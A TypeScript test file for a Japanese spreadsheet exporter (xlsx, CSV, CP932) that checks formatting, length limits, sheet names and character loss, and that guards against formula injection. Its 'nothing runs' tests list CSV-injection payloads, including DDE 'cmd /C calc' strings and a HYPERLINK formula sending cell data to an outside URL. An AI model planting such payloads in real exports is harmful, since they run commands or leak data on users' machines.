import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import readXlsx from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { openedCell } from './csv.ts';
import { decodeText, parseCsv } from './files.ts';
import { sheetBytes, writeSheet } from './sheet.server.ts';
import {
  type As,
  allAtOnce,
  type Cell,
  type Column,
  sheetName,
  type Written,
  warningsOf,
} from './sheet.ts';
import { bookOf } from './xlsx.server.ts';

const sheetOf = (rows: Cell[][], columns: Column[], name = '記録') => ({
  name,
  columns,
  rows: allAtOnce(rows),
});
const texts = (labels: string[]): Column[] => labels.map((label) => ({ label }));
const make = (rows: Cell[][], columns: Column[], as: As = 'xlsx', name?: string) =>
  sheetBytes(sheetOf(rows, columns, name), as);

/** As read-excel-file sees it: one sheet of rows, heading first. */
async function readBack(bytes: Buffer) {
  const sheets = await readXlsx(bytes, { trim: false });
  return { name: sheets[0]?.sheet, rows: sheets[0]?.data ?? [] };
}
const rowsOf = (bytes: Buffer) => parseCsv(decodeText(bytes).text);

/** The sheet's own XML. */
async function xmlOf(bytes: Buffer, part = 'xl/worksheets/sheet1.xml'): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'xlsx-'));
  const path = join(folder, 'a.xlsx');
  writeFileSync(path, bytes);
  const read = `import sys,zipfile; z=zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; sys.stdout.buffer.write(z.read(sys.argv[2]))`;
  const xml = execFileSync('python3', ['-c', read, path, part], { encoding: 'utf8' });
  rmSync(folder, { recursive: true });
  return xml;
}

describe('a workbook', () => {
  const columns: Column[] = [
    { label: '日付', type: 'day', width: 12 },
    { label: '人数', type: 'number' },
    { label: 'したこと', width: 60 },
  ];

  test('reads back: days as days, numbers as numbers, line ends kept', async () => {
    const rows = [
      ['2026-11-20', 24, 'a <b> & "c"\n𠮷髙 '],
      ['', null, ''],
      ['1899-12-31', -0.5, '値'],
    ];
    const { bytes, written } = await make(rows, columns);
    expect(written).toEqual({ rows: 3, lost: [], cut: 0 });
    expect(await readBack(bytes)).toEqual({
      name: '記録',
      rows: [
        ['日付', '人数', 'したこと'],
        [new Date('2026-11-20T00:00:00Z'), 24, 'a <b> & "c"\n𠮷髙 '],
        [null, null, null],
        ['1899-12-31', -0.5, '値'],
      ],
    });
  });

  test('headings are bold and stay in sight, columns have their widths', async () => {
    const { bytes } = await make([['2026-11-20', 1, 'x']], columns);
    const xml = await xmlOf(bytes);
    expect(xml).toContain('<pane ySplit="1"');
    expect(xml).toContain('<col min="3" max="3" width="60" customWidth="1"/>');
    expect(xml).toContain('<c r="A1" s="1"');
    expect(await xmlOf(bytes, 'xl/styles.xml')).toMatch(/<font><b\/>.*fontId="1"/);
  });

  test('more columns than letters', async () => {
    const labels = Array.from({ length: 60 }, (_, n) => `列${n}`);
    const { bytes } = await make([labels], texts(labels));
    expect((await readBack(bytes)).rows).toEqual([labels, labels]);
  });

  test('a cell holds 32,767 letters: what is longer is cut and counted, never a half letter', async () => {
    const long = `あ${'𠮷'.repeat(20_000)}`;
    const { bytes, written } = await make([[long], ['い'.repeat(32_767)]], texts(['文']));
    expect(written.cut).toBe(1);
    const [, [cut], [whole]] = (await readBack(bytes)).rows as [unknown, [string], [string]];
    expect(cut.length).toBeLessThanOrEqual(32_767);
    expect(cut.isWellFormed()).toBe(true);
    expect(cut).toMatch(/𠮷…（長いため、ここまで）$/);
    expect(whole).toBe('い'.repeat(32_767));
    expect(warningsOf(written)).toEqual([expect.stringContaining('1か所の文を途中で切りました')]);
  });

  test('any text that the database can hold makes a file that opens', async () => {
    const text = fc.string({ unit: 'binary', maxLength: 20 });
    const odd = fc.constantFrom('\0', '\u0007', '\ud800', '\ufffe', ']]>', '&#0;', '\r', '\u0085');
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(text, odd)), async (odds) => {
        const cells = ['x', ...odds];
        const { bytes } = await make([cells], texts(cells.map((_, n) => `${n}`)));
        const { rows } = await readBack(bytes);
        expect(rows).toHaveLength(2);
      }),
      { numRuns: 30 },
    );
  });

  test('many parts, and an empty table', async () => {
    async function* rows() {
      for (let n = 0; n < 500; n += 1) yield [[n, `行${n} ${'あ'.repeat(500)}`]];
    }
    const { bytes, written } = await sheetBytes(
      { name: '表', columns: texts(['n', 't']), rows: rows() },
      'xlsx',
    );
    expect(written.rows).toBe(500);
    expect((await readBack(bytes)).rows.at(-1)).toEqual([499, `行499 ${'あ'.repeat(500)}`]);
    const empty = await make([], texts(['n', 't']));
    expect((await readBack(empty.bytes)).rows).toEqual([['n', 't']]);
  });
});

test('a book of several sheets opens, each under a name of its own', async () => {
  const sheetNamed = (name: string, rows: number) => ({
    name,
    columns: [{ label: '件数', type: 'number' as const }],
    rows: allAtOnce(Array.from({ length: rows }, (_, n) => [n])),
  });
  const names = ['表紙', '地域', '地域', 'あ'.repeat(40), 'あ'.repeat(40)];
  const written: Written = { rows: 0, lost: [], cut: 0 };
  const parts: Buffer[] = [];
  for await (const part of bookOf(
    names.map((name, n) => sheetNamed(name, n)),
    written,
  ))
    parts.push(part);
  const sheets = await readXlsx(Buffer.concat(parts));
  expect(sheets.map(({ sheet }) => sheet)).toEqual([
    ...['表紙', '地域', '地域 2', 'あ'.repeat(28), `${'あ'.repeat(25)} 2`],
  ]);
  expect(sheets.map(({ data }) => data.length)).toEqual([1, 2, 3, 4, 5]);
  expect(written.rows).toBe(10);
});

describe('S11: nothing runs', () => {
  const dangerous = [
    ...['=1+1', '+81', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠a', '−1'],
    ...[' =1', '　＝1', '﹦1', '=', "=cmd|' /C calc'!A0", '\0=1', '\u0001+1', "'=1"],
    '=HYPERLINK("https://example.jp?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+cmd|"/C calc"!A0',
    '⁺1',
    '₋1',
  ];
  const isGuarded = /^'/;

  test.each(['xlsx', 'csv', 'cp932'] as const)('no cell and no heading of %s', async (as) => {
    const { bytes } = await make(
      dangerous.map((d) => [d]),
      texts([dangerous[0] ?? '']),
      as,
    );
    const rows = as === 'xlsx' ? (await readBack(bytes)).rows : rowsOf(bytes);
    expect(rows).toHaveLength(dangerous.length + 1);
    expect(rows.flat().filter((cell) => !isGuarded.test(String(cell)))).toEqual([]);
  });

  test('a workbook has no formula at all, and its texts are of the kind text', async () => {
    const { bytes } = await make(
      dangerous.map((d) => [d]),
      texts(['文']),
    );
    const xml = await xmlOf(bytes);
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml.match(/<c /g)).toHaveLength(dangerous.length + 1);
    expect(xml.match(/s="[12]" t="inlineStr"/g)).toHaveLength(dangerous.length + 1);
  });

  test.each(['xlsx', 'csv'] as const)('coming in again from %s it is the same text', async (as) => {
    const kept = dangerous.filter((d) => !/[\0\u0001\r]/.test(d));
    const { bytes } = await make(
      kept.map((d) => [d]),
      texts(['文']),
      as,
    );
    const rows = as === 'xlsx' ? (await readBack(bytes)).rows : rowsOf(bytes);
    expect(rows.slice(1).map(([cell]) => openedCell(String(cell)))).toEqual(kept);
  });

  test.each([
    ['=記録', '記録'],
    ['＝＋記録', '記録'],
    ["'記録'", '記録'],
    ['東部/西部[1]:*?\\', '東部・西部・1・・・・・'],
    ['', '表'],
    ['History', '表'],
    ['あ'.repeat(50), 'あ'.repeat(28)],
    ['@', '表'],
  ])('the sheet %j is named %j', async (name, shown) => {
    expect(sheetName(name)).toBe(shown);
    const { bytes } = await make([['x']], texts(['文']), 'xlsx', name);
    expect((await readBack(bytes)).name).toBe(shown);
  });
});

describe('CSV for old programs (CP932)', () => {
  test('holds 髙﨑①㈱～, as Windows does', async () => {
    const { bytes, written } = await make([['髙﨑①㈱～神?']], texts(['名']), 'cp932');
    expect(new TextDecoder('shift_jis').decode(bytes)).toBe('名\r\n髙﨑①㈱～神?\r\n');
    expect(written.lost).toEqual([]);
  });

  test('what it does not have is 〓, and said once each', async () => {
    const { bytes, written } = await make(
      [['𠮷野家?'], ['森鷗外と𠮷'], ['☃']],
      texts(['名']),
      'cp932',
    );
    expect(new TextDecoder('shift_jis').decode(bytes)).toBe(
      '名\r\n〓野家?\r\n森〓外と〓\r\n〓\r\n',
    );
    expect(written.lost).toEqual(['𠮷', '鷗', '☃']);
    expect(warningsOf(written)).toEqual([expect.stringContaining('「𠮷」「鷗」「☃」は「〓」')]);
  });

  test('the same sign with another number is no loss', async () => {
    const { bytes, written } = await make([['9〜12 −1 か\u3099き']], texts(['名']), 'cp932');
    expect(new TextDecoder('shift_jis').decode(bytes)).toBe('名\r\n9～12 －1 がき\r\n');
    expect(written.lost).toEqual([]);
  });

  test('a variant of a letter goes out as the letter, and is said', async () => {
    const { bytes, written } = await make([['葛\u{e0100}城']], texts(['名']), 'cp932');
    expect(new TextDecoder('shift_jis').decode(bytes)).toBe('名\r\n葛城\r\n');
    expect(written.lost).toEqual(['字形の区別（U+E0100）']);
  });
});

test('written to a path it is the same bytes, for this program’s eyes', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'sheet-'));
  const path = join(folder, 'a.csv');
  const seen: number[] = [];
  const rows = [['𠮷'], ['b']];
  const written = await writeSheet(sheetOf(rows, texts(['名'])), 'csv', path, (n) => seen.push(n));
  expect(written.rows).toBe(2);
  expect(seen).toEqual([2]);
  expect(readFileSync(path)).toEqual((await make(rows, texts(['名']), 'csv')).bytes);
  expect(statSync(path).mode & 0o777).toBe(0o600);
  await expect(writeSheet(sheetOf(rows, texts(['名'])), 'csv', path)).rejects.toThrow('EEXIST');
  rmSync(folder, { recursive: true });
});
